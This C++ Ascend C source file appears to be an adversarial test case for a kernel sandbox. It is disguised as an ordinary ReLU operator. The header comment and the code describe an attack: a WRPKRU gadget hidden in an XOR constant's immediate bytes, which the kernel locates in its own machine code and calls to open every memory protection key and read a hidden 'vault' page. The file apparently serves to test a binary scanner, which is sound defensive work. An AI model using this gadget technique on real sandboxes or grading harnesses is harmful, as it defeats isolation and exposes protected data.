// ATTACK (passes the source scan): a WRPKRU of its own hidden in an instruction's immediate. The
// 64-bit constant below is, as bytes, `xor ecx,ecx; xor edx,edx; wrpkru; ret`; the kernel finds it
// in its own code and calls it as a variadic function (the caller sets eax = 0): PKRU = 0, every
// protection key open, the vault and the real GM pages readable. Refused before it runs: the
// launcher's code holds WRPKRU bytes outside the emulator's one function (SEC.BINARY). With that
// check off, it opens the keys and reads the vault's hidden page (prints "gadget: keys open").
#include <cstdint>
#include <cstring>
#include "kernel_operator.h"
#include "tiling/platform/platform_ascendc.h"
#include "register/op_def_registry.h"

struct ReluTiling {
    uint64_t total;
};

__attribute__((noinline)) static uint64_t carrier(uint64_t x)
{
    return x ^ 0xc3ef010fd231c931ull;
}

static const unsigned char* find_gadget()
{
    const unsigned char want[4] = {0x0f, 0x01, 0xef, 0xc3};
    const unsigned char* code = reinterpret_cast<const unsigned char*>(&carrier);
    for (int i = 0; i < 64; ++i)
        if (std::memcmp(code + i, want, 4) == 0) return code + i - 4;
    return nullptr;
}

extern "C" __global__ __aicore__ void relu_custom(GM_ADDR x, GM_ADDR y, GM_ADDR workspace, GM_ADDR tiling)
{
    REGISTER_TILING_DEFAULT(ReluTiling);
    GET_TILING_DATA(t, tiling);
    if (AscendC::GetBlockIdx() == 0) {
        if (const unsigned char* g = find_gadget()) {
            reinterpret_cast<void (*)(...)>(const_cast<unsigned char*>(g))();
            printf("gadget: keys open, vault word %d\n", *reinterpret_cast<volatile int*>(0x200000001000ull));
        }
    }
    uint64_t n = t.total, per = (n + AscendC::GetBlockNum() - 1) / AscendC::GetBlockNum();
    per = (per + 7) / 8 * 8;
    uint64_t lo = AscendC::GetBlockIdx() * per, hi = lo + per < n ? lo + per : n;
    if (lo >= hi) return;
    const uint32_t m = (uint32_t)(hi - lo);
    AscendC::TPipe pipe;
    AscendC::TBuf<AscendC::TPosition::VECCALC> inb, outb;
    pipe.InitBuffer(inb, 8192 * sizeof(DTYPE_X));
    pipe.InitBuffer(outb, 8192 * sizeof(DTYPE_X));
    AscendC::LocalTensor<DTYPE_X> in = inb.Get<DTYPE_X>();
    AscendC::LocalTensor<DTYPE_X> out = outb.Get<DTYPE_X>();
    AscendC::GlobalTensor<DTYPE_X> xGm, yGm;
    xGm.SetGlobalBuffer((__gm__ DTYPE_X*)x, n);
    yGm.SetGlobalBuffer((__gm__ DTYPE_X*)y, n);
    AscendC::DataCopyExtParams cp{1, (uint32_t)(m * sizeof(DTYPE_X)), 0, 0, 0};
    AscendC::DataCopyPadExtParams<DTYPE_X> pad{false, 0, 0, 0};
    AscendC::DataCopyPad(in, xGm[lo], cp, pad);
    AscendC::SetFlag<AscendC::HardEvent::MTE2_V>(0);
    AscendC::WaitFlag<AscendC::HardEvent::MTE2_V>(0);
    AscendC::Maxs(out, in, static_cast<DTYPE_X>(carrier(0) == 0 ? 1.0f : 0.0f), m);
    AscendC::SetFlag<AscendC::HardEvent::V_MTE3>(0);
    AscendC::WaitFlag<AscendC::HardEvent::V_MTE3>(0);
    AscendC::DataCopyPad(yGm[lo], out, cp);
}

namespace optiling {
static ge::graphStatus TilingFunc(gert::TilingContext* context)
{
    auto* t = context->GetTilingData<ReluTiling>();
    t->total = context->GetInputShape(0)->GetStorageShape().GetShapeSize();
    auto platform = platform_ascendc::PlatformAscendC(context->GetPlatformInfo());
    uint64_t cores = platform.GetCoreNumAiv();
    if (t->total < cores * 8 || t->total > cores * 8192) cores = (t->total + 8191) / 8192;
    if (cores == 0) cores = 1;
    context->SetBlockDim((uint32_t)cores);
    return ge::GRAPH_SUCCESS;
}
}  // namespace optiling
